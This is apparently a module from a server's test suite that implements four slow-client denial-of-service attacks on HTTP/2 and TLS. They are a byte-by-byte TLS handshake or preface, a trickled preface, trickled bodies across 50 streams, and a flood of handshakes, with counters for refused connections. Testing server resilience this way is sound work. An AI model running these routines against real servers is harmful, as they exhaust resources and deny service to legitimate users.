"""Attacks by clients that begin something and take their time."""

from __future__ import annotations

import asyncio
import contextlib
import ssl
import time
from collections.abc import Awaitable, Callable, Mapping

from tests.attacks import frames
from tests.attacks.http2 import METHOD, Target, Toll, connected_to

_BLOCK = frames.header_block(METHOD)
_PAUSE = 0.3  # seconds between two bytes


def client_hello() -> bytes:
    """What a TLS client says first."""
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.check_hostname = False
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(incoming, outgoing).do_handshake()
    return outgoing.read()


async def slow_handshake(target: Target, toll: Toll, until: float) -> None:
    """A TLS handshake, or without TLS HTTP/2's preface, that comes byte by byte."""
    some = client_hello() if target.ca is not None else frames.PREFACE
    while time.monotonic() < until:
        reader, writer = await asyncio.open_connection(target.host, target.port)
        toll.connected += 1
        reading = asyncio.create_task(reader.read())
        try:
            for byte in some:
                if time.monotonic() >= until or reading.done():
                    break
                writer.write(bytes([byte]))
                await asyncio.wait([reading], timeout=_PAUSE)
            toll.refused += reading.done()
        finally:
            reading.cancel()
            writer.transport.abort()


async def slow_preface(target: Target, toll: Toll, until: float) -> None:
    """A handshake that is done, and then HTTP/2's preface byte by byte."""
    while time.monotonic() < until:
        reader, writer = await asyncio.open_connection(target.host, target.port, ssl=target.context())
        toll.connected += 1
        reading = asyncio.create_task(reader.read())
        try:
            for byte in frames.PREFACE:
                if time.monotonic() >= until or writer.is_closing():
                    break
                writer.write(bytes([byte]))
                await asyncio.sleep(_PAUSE)
            toll.refused += writer.is_closing()
        finally:
            reading.cancel()
            writer.transport.abort()


async def slow_bodies(target: Target, toll: Toll, until: float) -> None:
    """Calls whose messages come byte by byte: all that one connection may have."""
    message = b"\0" + (1000).to_bytes(4, "big") + b"\0" * 1000
    while time.monotonic() < until:
        async with connected_to(target, toll) as connection:
            streams = [connection.next_stream() for _ in range(50)]
            await connection.write(b"".join(frames.headers(stream, _BLOCK) for stream in streams))
            for byte in message:
                if not connection.is_open or time.monotonic() >= until:
                    break
                await connection.write(b"".join(frames.data(stream, bytes([byte])) for stream in streams))
                await asyncio.sleep(_PAUSE)


async def handshakes(target: Target, toll: Toll, until: float) -> None:
    """Handshake after handshake, each of which the server has to sign."""
    while time.monotonic() < until:
        _, writer = await asyncio.open_connection(target.host, target.port, ssl=target.context())
        toll.connected += 1
        writer.transport.abort()
        await asyncio.sleep(0)


SLOW_ATTACKS: Mapping[str, Callable[[Target, Toll, float], Awaitable[None]]] = {
    "slow-handshake": slow_handshake,
    "slow-preface": slow_preface,
    "slow-bodies": slow_bodies,
    "handshakes": handshakes,
}
